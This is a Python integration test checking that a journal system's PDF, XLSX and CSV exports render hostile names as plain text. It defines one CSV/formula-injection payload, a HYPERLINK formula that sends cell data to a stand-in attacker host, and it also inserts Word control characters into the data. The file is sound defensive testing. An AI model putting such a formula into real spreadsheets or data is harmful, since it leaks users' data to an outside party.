"""Hostile names in the journal's downloads: no live formula, no 500 on characters XML cannot hold.

A student registered as ``=HYPERLINK(…)`` and an institution, faculty and group whose names
were pasted from Word (a soft line break ``\\x0b``, a group separator ``\\x1d``): the statement
(PDF, XLSX, CSV) and the journal grid (XLSX, CSV) still download, on both backends, and
each shows the name as text.
"""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import update

from exam_engine.tables import faculties, groups, users
from journal_bridge.tables import journals
from tests.factories import open_client
from tests.integration.test_journal_reports import _signed_in
from tests.integration.test_journal_world import make_journal_world

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
INSTITUTION = "Қостанай\x0bакадемиясы\x1d"
GROUP = "G1\x0bA\x1d"


def _cells(book) -> list[tuple[object, str]]:  # type: ignore[no-untyped-def]
    return [
        (c.value, c.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.value is not None
    ]


async def test_a_formula_name_and_word_control_characters_download_as_text(services):
    jw = await make_journal_world(services, students=2)
    async with services.engine.begin() as conn:
        await conn.execute(update(users).where(users.c.id == jw.ids["student1"]).values(full_name=FORMULA))
        await conn.execute(
            update(journals).where(journals.c.id == jw.journal_id).values(institution=INSTITUTION, group_code=GROUP)
        )
        await conn.execute(update(groups).where(groups.c.code == "G1").values(code=GROUP))
        await conn.execute(update(faculties).values(name="Факультет\x0b№1"))
    client = await open_client(services)
    try:
        quality = await _signed_in(client, "quality1")
        base = f"/api/v1/journals/{jw.journal_id}"
        got = {}
        for path in (
            "/statement?format=xlsx",
            "/statement?format=csv",
            "/statement?format=pdf",
            "/export?format=xlsx",
            "/export?format=csv",
        ):
            resp = await quality.client.request("GET", base + path)
            got[path] = (resp.status, await resp.read())
        await quality.client.close()
    finally:
        await client.close()
    assert {path: status for path, (status, _) in got.items()} == dict.fromkeys(got, 200)

    for path in ("/statement?format=xlsx", "/export?format=xlsx"):
        book = load_workbook(io.BytesIO(got[path][1]))
        cells = _cells(book)
        assert (FORMULA, "s") in cells, path  # the name as typed, stored as text
        assert not [v for v, kind in cells if kind == "f"], path  # no formula anywhere
        assert book.worksheets[0].title == "G1 A", path
    statement = _cells(load_workbook(io.BytesIO(got["/statement?format=xlsx"][1])))
    assert ("Қостанай академиясы", "s") in statement and ("Факультет №1", "s") in statement
    assert ("G1 A", "s") in statement

    for path in ("/statement?format=csv", "/export?format=csv"):
        rows = list(csv.reader(io.StringIO(got[path][1].decode("utf-8-sig"))))
        names = [r[1] for r in rows[1:]]
        assert "'" + FORMULA in names, (path, names)  # a spreadsheet shows it as text
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), path

    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(got["/statement?format=pdf"][1])).pages)
    assert "Қостанай академиясы" in text and "G1 A" in text and "HYPERLINK" in text
